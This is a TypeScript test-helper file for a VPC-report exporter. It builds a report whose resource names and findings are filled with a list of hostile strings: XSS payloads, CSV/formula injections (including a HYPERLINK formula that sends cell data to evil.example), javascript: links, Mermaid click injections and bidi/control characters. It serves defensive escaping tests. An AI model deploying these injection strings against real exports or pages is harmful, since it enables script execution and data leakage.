/** What tests of exporters share: a report full of hostile names, and readers that are not ours. */
import { DOMParser } from '@xmldom/xmldom';
import { unzipSync } from 'fflate';
import { expect } from 'vitest';
import type { Artefact } from '#app/exports/exporter.ts';
import type { Report } from '#app/report.ts';
import { World } from '#app/world/world.ts';
import { reportOf } from '../scene/estates.ts';

export const HOSTILE = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '\'quoted\' & "double" <b>',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+SUM(1)|cmd',
  '@import',
  '\t=1+1',
  '-2+3',
  'pipe | pipe `code` *bold* _it_ [link](javascript:alert(1)) ![x](http://evil.example/x.png)',
  'https://evil.example/?q=1 www.evil.example mail@evil.example',
  '# heading\n- item\r\n> quote',
  '\u202eevil\u202c \u2066x\u2069 \u200fy',
  'nul\u0000bell\u0007esc\u001b[31mred del\u007f c1\u009b31m',
  'javascript:alert(1)',
  ']]><!-- --> <?xml ?> &amp; &#60;b&#62;',
  'end\nsubgraph x\nclick n0 "javascript:alert(1)"',
  '"]; click n1 call alert() %% #quot;',
  'lone \ud800 surrogate',
  `${'long '.repeat(820)}end`,
  '%name% ${x} {{y}}',
];

/** Every hostile text as a VPC's name, a transit gateway's, a peering's and a finding's words. */
export function hostile(): Report {
  const world = new World();
  const at = world.region();
  const vpcs = HOSTILE.map((name, i) => {
    const vpc = at.vpc(`v${i}`, `10.${i}.0.0/16`);
    const item = world.items.find((x) => x.id === vpc.id)!;
    const made = item.item;
    (item as { item: () => Record<string, unknown> }).item = () => ({
      ...made(),
      Tags: [
        { Key: 'Name', Value: name },
        { Key: name.slice(0, 127), Value: name },
      ],
    });
    return vpc;
  });
  for (const [i, vpc] of vpcs.entries())
    world.peer(vpcs[(i + 1) % vpcs.length]!, vpc, { name: HOSTILE[i]! });
  const report = reportOf(world, []);
  return {
    ...report,
    findings: HOSTILE.map((text, i) => ({
      rule: 'peering-one-way',
      severity: 'error',
      sure: true,
      message: text,
      resources: [vpcs[i]!.id],
      path: [vpcs[i]!.id, vpcs[0]!.id],
      places: [{ resource: vpcs[i]!.id, detail: text }],
      data: {},
      gaps: [],
      fingerprint: `f${i}`,
    })),
    gaps: [
      {
        id: 'g',
        kind: 'call',
        failure: 'refused',
        account: '111111111111',
        region: 'us-east-1',
        call: 'ec2:DescribeVpcs',
        hides: ['vpc'],
        subject: undefined,
        message: HOSTILE.slice(0, 8).join(' '),
      },
    ],
  };
}

/** Parses as XML with a parser that is not ours; any complaint fails. */
export function xmlOf(text: string): Document {
  const complaints: string[] = [];
  const say = (m: unknown): void => void complaints.push(String(m));
  const doc = new DOMParser({
    errorHandler: { warning: say, error: say, fatalError: say },
  }).parseFromString(text, 'text/xml');
  expect(complaints).toEqual([]);
  return doc;
}
export const elements = (doc: Document | Element, name: string): Element[] =>
  Array.from(doc.getElementsByTagName(name));

/** Everything an artefact says: of a package of files, each of them behind its name. */
export function textOf({ body }: Artefact): string {
  if (typeof body === 'string') return body;
  const read = (bytes: Uint8Array): string =>
    new TextDecoder('utf-8', { fatal: true }).decode(bytes);
  return Object.entries(unzipSync(body))
    .map(([name, bytes]) => `--- ${name}\n${read(bytes)}`)
    .join('\n');
}
